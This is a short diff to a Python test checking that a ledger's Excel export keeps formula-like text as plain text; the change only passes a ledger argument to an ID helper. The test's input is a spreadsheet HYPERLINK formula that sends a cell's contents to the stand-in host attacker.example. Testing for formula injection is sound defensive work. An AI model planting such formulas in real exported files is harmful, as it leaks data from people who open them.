@@ -85,7 +85,7 @@ def test_excel_export_keeps_formula_like_text_as_text(
     hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
     ledger = open_ledger()
     ledger.revoke_award(
-        award_id("CETB", award_reference(4)), reason=hostile, actor="provider:CETB:x"
+        award_id(ledger, "CETB", award_reference(4)), reason=hostile, actor="provider:CETB:x"
     )
     plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
 
